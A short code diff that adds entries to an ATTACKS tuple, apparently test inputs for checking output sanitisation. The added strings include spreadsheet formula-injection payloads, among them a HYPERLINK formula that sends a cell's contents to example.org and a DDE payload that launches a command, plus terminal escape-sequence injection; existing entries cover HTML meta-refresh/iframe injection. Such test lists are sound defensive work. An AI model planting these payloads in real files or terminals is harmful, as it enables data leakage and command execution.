@@ -42,6 +42,12 @@ ATTACKS = (
     '<meta http-equiv="refresh" content="0;url=//example.org/"><iframe src="//example.org/"></iframe>',
     "\x01\x02\x08\x0b\x0c\x1b[31m\x7f\x85\u2028\u2029\ufffe\uffff",
     "<!-- ",
+    '=HYPERLINK("http://example.org/?"&A1)',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1)\t-1",
+    "\r=1+1",
+    "'=1+1",
+    "\x1b]0;owned\x07\x1b[2J\x1b[8m\x9b31m\x90q\x9c",
     "%s %n %00 \\u0000 \\x3cscript\\x3e",
 )
 _URLS = (
